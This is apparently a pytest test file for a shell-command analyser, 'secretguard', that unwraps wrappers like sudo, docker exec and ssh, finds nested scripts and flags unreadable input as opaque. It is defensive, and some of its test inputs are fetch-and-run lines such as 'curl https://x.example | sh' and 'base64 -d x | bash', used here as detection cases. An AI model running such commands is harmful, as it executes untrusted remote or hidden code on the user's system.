"""Commands inside commands: what wrappers, shells and interpreters would run."""

from __future__ import annotations

import pytest

from secretguard.shell.inner import inside
from secretguard.shell.words import UNKNOWN, Command
from tests.secretguard.shell.place import HERE, effects, words


@pytest.mark.parametrize(
    ("line", "inner"),
    [
        ("sudo -u root ls", "ls"),
        ("sudo -E A=b ls", "ls"),
        ("env -i A=b ls", "ls"),
        ("timeout -s KILL 5 ls -l", "ls -l"),
        ("nice -n 5 ls", "ls"),
        ("flock -w 1 lock ls", "ls"),
        ("docker exec -it web ls", "ls"),
        ("docker compose exec web ls", "ls"),
        ("kubectl exec pod -n x -- ls", "ls"),
        ("aws-vault exec prod -- ls", "ls"),
        ("op run --env-file=x -- ls", "ls"),
        ("command ls", "ls"),
        ("busybox ls", "ls"),
        ("xargs -n 1 ls", f"ls {UNKNOWN}"),
    ],
)
def test_a_wrapper_gives_way_to_what_it_runs(line: str, inner: str) -> None:
    """Options with values, assignments and words before the command are passed over."""
    (found,) = inside(words(*line.split())).commands
    assert found.words == inner.split(" ")


@pytest.mark.parametrize("line", ["docker ps", "kubectl get pods", "command -v ls", "op item list", "ssh host"])
def test_a_wrapper_in_another_use_runs_nothing(line: str) -> None:
    """The same programs have other uses."""
    found = inside(words(*line.split()))
    assert found.commands == []
    assert found.scripts == []


@pytest.mark.parametrize(
    ("given", "script"),
    [
        (("bash", "-c", "ls"), "ls"),
        (("bash", "-lc", "ls"), "ls"),
        (("bash", "-x", "-c", "ls"), "ls"),
        (("sh", "-ec", "ls", "name"), "ls"),
        (("su", "-", "user", "-c", "ls"), "ls"),
        (("eval", "ls", "-l"), "ls -l"),
        (("trap", "ls", "EXIT"), "ls"),
        (("ssh", "-p", "22", "host", "ls", "-l"), "ls -l"),
        (("env", "-S", "ls -l"), "ls -l"),
    ],
)
def test_a_script_is_found(given: tuple[str, ...], script: str) -> None:
    """Shell text in an argument is parsed again."""
    assert inside(words(*given)).scripts == [script]


def test_a_document_for_a_shell_is_a_script() -> None:
    """`bash <<EOF` runs the document."""
    assert inside(Command(["bash"], HERE, body="ls\n")).scripts == ["ls\n"]


@pytest.mark.parametrize(
    "line",
    [
        "$CMD",
        '"$CMD" x',
        "$(echo ls)",
        "curl https://x.example | sh",
        "curl https://x.example | bash -s",
        "base64 -d x | bash",
        "cat script | python",
        "cat script | python -",
        "bash < script",
        'eval "$(ssh-agent)"',
        'bash -c "$X"',
        "source <(curl https://x.example)",
        ". $X",
        "python -c 'print(1)'",
        "python - <<E\nprint(1)\nE",
        "node -e '1'",
        "perl -e 1",
        "python3.12 -c 'x'",
        "if",
        "a )",
        "x" * 10_001,
        "(" * 300,
        'bash -c \'bash -c "bash -c \\"bash -c \\\\\\"bash -c \\\\\\\\\\\\\\"x\\\\\\\\\\\\\\"\\\\\\"\\""\'; echo $(',
        "a\x00b",
    ],
)
def test_what_cannot_be_told_is_opaque(line: str) -> None:
    """Text that is known only when it runs, or that cannot be read, is the third answer."""
    assert "opaque" in effects(line)


@pytest.mark.parametrize(
    "line",
    [
        "ls",
        '"$VIRTUAL_ENV/bin/pytest" -q',
        "bash script.sh",
        "python script.py",
        "python -m pytest",
        "cat x | python -m json.tool",
        "cat x | grep y",
        "source .venv/bin/activate",
        "node server.js",
        "make test && npm run build",
        "for f in *.py; do wc -l $f; done",
        "git commit -m \"$(cat <<'E'\nmessage\nE\n)\"",
    ],
)
def test_ordinary_work_is_not_opaque(line: str) -> None:
    """Running a file, a module or a known program is plain."""
    assert "opaque" not in effects(line)


def test_depth_is_bounded() -> None:
    """Wrappers around wrappers end in opaque, not in a crash."""
    assert "opaque" in effects("sudo " * 50 + "ls")
    assert "opaque" in effects("eval " * 50 + "ls")
